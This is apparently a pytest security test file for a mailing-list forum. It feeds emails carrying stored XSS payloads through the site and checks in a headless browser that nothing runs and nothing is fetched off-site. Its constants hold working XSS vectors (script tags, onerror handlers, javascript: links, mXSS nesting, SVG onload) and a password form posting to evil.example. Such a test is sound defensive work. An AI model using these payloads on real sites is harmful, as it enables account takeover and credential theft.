"""Stored XSS, in a real browser (Debian's chromium through Playwright, as tests/test_browser.py starts
it): posts whose subject, sender name, HTML body and attachment names carry scripts come in over SMTP,
are approved in the moderation queue, and are then read on every page that shows them — the queue, the
list, the month, the thread, the message (with its HTML shown), search results, the raw message and the
attachments. Nothing runs (each payload sets ``window.__pwned`` or calls ``alert``), and the page asks
nothing of any origin but the forum's own. Both databases."""

from __future__ import annotations

import re
from collections.abc import Iterator
from email.message import EmailMessage
from urllib.parse import urlsplit

import httpx2
import pytest
from playwright.sync_api import Browser, Page, Response
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from listserv.store.models import ArchivedPost
from tests.conftest import RunningForum, SteppableClock, wait_for
from tests.test_browser import (  # noqa: F401 (browser, site: fixtures)
    DELEGATE,
    MOD_EN,
    TA_EN,
    Visit,
    browser,
    compose,
    held_subjects,
    open_visit,
    send,
    site,
)

pytestmark = pytest.mark.security

WORD = "quokka"  # in every hostile post: what the search finds them by
PWN = "window.__pwned = '{0}'; alert('{0}')"
SUBJECT = f'{WORD} <script>{PWN.format("subject")}</script><img src=x onerror="{PWN.format("subject-img")}">'
# No double quote: the name is a quoted-string in From, whole.
NAME = (
    f"<img src=x onerror={PWN.format('name').replace(' ', '')}><script>{PWN.format('name-script')}</script>"
)
HTML_BODY = f"""<html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url(https://evil.example/import.css);
body {{ background: url(https://evil.example/bg.png) }}</style>
</head><body onload="{PWN.format("onload")}">
<p>{WORD} figures are below.</p>
<script>{PWN.format("script")}</script>
<img src="https://evil.example/pixel.png" onerror="{PWN.format("img")}">
<a href="javascript:{PWN.format("href")}" id="js">open</a>
<a href="  JaVaScRiPt:{PWN.format("href2")}">again</a>
<iframe src="https://evil.example/frame"></iframe>
<iframe srcdoc="<script>{PWN.format("srcdoc")}</script>"></iframe>
<svg onload="{PWN.format("svg")}"><script>{PWN.format("svg-script")}</script>
<image href="https://evil.example/svg.png"/></svg>
<div style="background-image: url('https://evil.example/div.png'); width: 10px">x</div>
<object data="https://evil.example/object.swf"></object><embed src="https://evil.example/embed.swf">
<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>
<video src="https://evil.example/v.mp4" poster="https://evil.example/poster.png"></video>
<math><mtext><table><mglyph><style><img src=x onerror="{PWN.format("mxss")}">
</style></mglyph></table></mtext></math>
</body></html>"""
ATTACHMENT_NAME = f'"><script>{PWN.format("file")}</script><img src=x onerror=alert(9)>.html'
ATTACHMENT_HTML = f"<script>{PWN.format('attachment')}</script>".encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{PWN.format("svg-file")}"/>'.encode()


DISPOSITION = re.compile(r"""attachment; filename="[^"\\\r\n]*"; filename\*=UTF-8''[A-Za-z0-9%._~-]+""")


def hostile_posts() -> list[EmailMessage]:
    subject = compose(DELEGATE, TA_EN, SUBJECT, f"{WORD} in the subject.")
    named = compose(f'"{NAME}" <{DELEGATE}>', TA_EN, f"{WORD} from a name", f"{WORD} by name.")
    html = compose(DELEGATE, TA_EN, f"{WORD} in HTML", html=HTML_BODY)
    attached = compose(DELEGATE, TA_EN, f"{WORD} with files", f"{WORD} see the files.")
    attached.add_attachment(ATTACHMENT_HTML, "text", "html", filename=ATTACHMENT_NAME)
    attached.add_attachment(SVG, "image", "svg+xml", filename=f"{NAME}.svg")
    return [subject, named, html, attached]


def archived(engine: Engine) -> list[tuple[str, str]]:
    with Session(engine) as session:
        rows = session.execute(
            select(ArchivedPost.message_id, ArchivedPost.subject).order_by(ArchivedPost.id)
        )
        return [(message_id.strip("<>"), subject) for message_id, subject in rows]


@pytest.fixture
def approved(
    site: str,  # noqa: F811
    browser: Browser,  # noqa: F811
    live: RunningForum,
    relayed_engine: Engine,
) -> Iterator[list[str]]:
    """The hostile posts through the real ingress, held, then approved in the queue by the moderator
    (whose queue page is itself attacked); yields their Message-IDs as archived."""
    posts = hostile_posts()
    for post in posts:
        send(live.port, post)
    wait_for(lambda: len(held_subjects(relayed_engine)) == len(posts), what="the hostile posts held")
    moderator = watched(browser, site)
    moderator.sign_in(MOD_EN)
    visit(moderator, "/moderation/ta-en/")
    for _ in posts:
        moderator.page.get_by_role("button", name="Approve").first.click()
        moderator.page.wait_for_load_state()
        assert_nothing_ran(moderator, moderator.page)
    wait_for(lambda: len(archived(relayed_engine)) == len(posts), what="the hostile posts archived")
    finish(moderator, site)
    yield [message_id for message_id, _ in archived(relayed_engine)]


def watched(chromium: Browser, base: str) -> Visit:
    """A browser context that records every URL any page of it asks for (Visit aborts those off-site)."""
    opened = open_visit(chromium, base)
    opened.requested = []  # type: ignore[attr-defined]
    # The policy blocks inline script and remote loads, so a payload that got through the escaping or the
    # sanitiser would not run, but the browser reports the refusal: none may be reported (inline style
    # included: the sanitiser keeps none, and our pages carry none).
    opened.page.on("console", lambda message: record_refusal(opened, message.text))
    opened.context.on("request", lambda request: opened.requested.append(request.url))  # type: ignore[attr-defined]
    return opened


def record_refusal(opened: Visit, text: str) -> None:
    if "Content Security Policy" in text:
        opened.errors.append(text)


def finish(opened: Visit, base: str) -> None:
    opened.context.close()
    origin = urlsplit(base).netloc
    elsewhere = [url for url in opened.requested if urlsplit(url).netloc != origin]  # type: ignore[attr-defined]
    assert elsewhere == [], f"the page asked another origin for: {elsewhere}"


def visit(opened: Visit, path: str) -> Response:
    response = opened.page.goto(path)
    assert response is not None and response.status == 200, path
    policy = response.headers.get("content-security-policy", "")
    if policy != "sandbox":  # the raw message: a sandbox, stricter still
        assert "script-src 'self'" in policy and "object-src 'none'" in policy, (path, policy)
        assert "default-src 'self'" in policy and "base-uri 'none'" in policy, (path, policy)
    assert response.headers.get("x-content-type-options") == "nosniff", path
    opened.page.wait_for_timeout(150)  # a meta refresh or a timer would have fired by now
    assert_nothing_ran(opened, opened.page)
    return response


def assert_nothing_ran(opened: Visit, page: Page) -> None:
    assert page.evaluate("window.__pwned") is None, page.evaluate("window.__pwned")
    assert opened.dialogs == [], opened.dialogs
    assert opened.errors == [], opened.errors
    assert urlsplit(page.url).hostname == "127.0.0.1", f"navigated away to {page.url}"
    hrefs = page.evaluate("[...document.querySelectorAll('[href],[src],[action]')].map(e => e.outerHTML)")
    assert not [tag for tag in hrefs if "javascript:" in tag.lower().replace(" ", "")], hrefs


def test_hostile_posts_run_nothing_and_fetch_nothing_anywhere_they_are_shown(
    approved: list[str],
    browser: Browser,  # noqa: F811
    site: str,  # noqa: F811
    clock: SteppableClock,
) -> None:
    reader = watched(browser, site)
    reader.sign_in(DELEGATE)
    month = f"/lists/ta-en/{clock().year}/{clock().month}/"
    pages = ["/lists/", "/lists/ta-en/", month, f"/search?q={WORD}"]
    for message_id in approved:
        pages += [
            f"/lists/ta-en/thread/{message_id}",
            f"/lists/ta-en/message/{message_id}",
            f"/lists/ta-en/message/{message_id}?html=1",
            f"/lists/ta-en/raw/{message_id}",
        ]
    for path in pages:
        visit(reader, path)
    visit(reader, month)
    assert "<script>" in reader.page.inner_text("main"), "the hostile subjects are shown, as text"
    assert reader.page.locator("main").get_by_text(WORD, exact=False).count() >= len(approved), month
    named = approved[1]
    visit(reader, f"/lists/ta-en/message/{named}")
    shown = reader.page.inner_text("main")  # the address parser keeps the name up to its ";"
    assert "onerror=window.__pwned='name'" in shown, "the hostile sender name is shown, as text"
    visit(reader, f"/lists/ta-en/message/{approved[-1]}")
    links = reader.page.locator("section.attachments a").all()
    assert len(links) == 2  # the HTML file, the SVG file
    for link in links:
        with reader.page.expect_download() as download:
            link.click()
        assert download.value.suggested_filename.endswith((".html", ".svg"))
        assert "/" not in download.value.suggested_filename
        assert_nothing_ran(reader, reader.page)  # saved, not opened as a page of the forum
    visit(reader, f"/search?q={WORD}")
    found = reader.page.locator("main li").count()
    assert found >= len(approved), f"search found {found} of the {len(approved)} hostile posts"
    finish(reader, site)


def test_attachments_download_as_attachments_of_a_harmless_type(
    approved: list[str],
    site: str,  # noqa: F811
) -> None:
    """Opened as a page of the forum's origin an HTML or SVG file would run: each is a download, of a
    declared type, in a sandbox, never sniffed."""
    client = httpx2.Client(base_url=site, trust_env=False, timeout=30)
    token = client.get("/password/forgot").text.split('name="csrf" value="')[1].split('"')[0]
    signed = client.post(
        "/login", data={"email": DELEGATE, "password": "correct horse battery", "csrf": token}
    )
    assert signed.status_code == 303
    with_files = approved[-1]
    message = client.get(f"/lists/ta-en/message/{with_files}").text
    assert "<script>" not in message.split("<main", 1)[1].split("</main>")[0]
    for index in (2, 3):
        answer = client.get(f"/lists/ta-en/attachment/{index}/{with_files}")
        assert answer.status_code == 200, index
        disposition = answer.headers["content-disposition"]
        assert DISPOSITION.fullmatch(disposition), disposition  # one quoted name nothing escapes from
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-security-policy"] == "sandbox"
        assert answer.headers["content-type"].split(";")[0] in ("text/html", "image/svg+xml")
    raw = client.get(f"/lists/ta-en/raw/{with_files}")
    assert (
        raw.headers["content-type"].startswith("text/plain")
        and raw.headers["x-content-type-options"] == "nosniff"
    )
    assert raw.headers["content-security-policy"] == "sandbox"
